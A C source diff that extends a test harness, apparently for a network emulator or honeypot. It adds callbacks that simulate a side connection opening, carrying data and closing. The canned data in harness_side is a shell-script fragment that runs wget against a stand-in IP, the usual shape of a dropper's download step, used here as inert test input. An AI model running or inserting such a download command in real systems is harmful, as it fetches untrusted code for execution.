@@ -138,6 +138,48 @@ harness_tick(struct harness *h, int64_t ms)
 	settle(h);
 }
 
+static int
+side_op(struct emu_ctx *ctx, int op, const void *p, size_t n)
+{
+	struct harness *h = (struct harness *)ctx; /* ctx is its first */
+
+	(void)p, (void)n;
+	if (op == EMU_SIDE_LISTEN) {
+		h->side = 1;
+		return 40021;
+	}
+	if (op == EMU_SIDE_CLOSE)
+		h->side = 0;
+	else if (h->side != 2)
+		return -1;
+	else
+		h->side = 3;
+	return 0;
+}
+
+void
+harness_sides(struct harness *h)
+{
+	h->ctx.side = side_op;
+}
+
+void
+harness_side(struct harness *h)
+{
+	static const uint8_t up[] = "#!/bin/sh\nwget http://198.51.100.9/x\n";
+	int s = h->side;
+
+	if (h->closed || !s || !h->emu->on_side)
+		return;
+	h->side = s == 1 ? 2 : s == 3 ? 0 : 2;
+	h->emu->on_side(&h->ctx, h->state,
+	        s == 1   ? EMU_SIDE_OPEN
+	        : s == 3 ? EMU_SIDE_END
+	                 : EMU_SIDE_DATA,
+	        up, s == 2 ? sizeof up - 1 : 0);
+	settle(h);
+}
+
 void
 harness_close(struct harness *h, enum emu_close_reason why)
 {
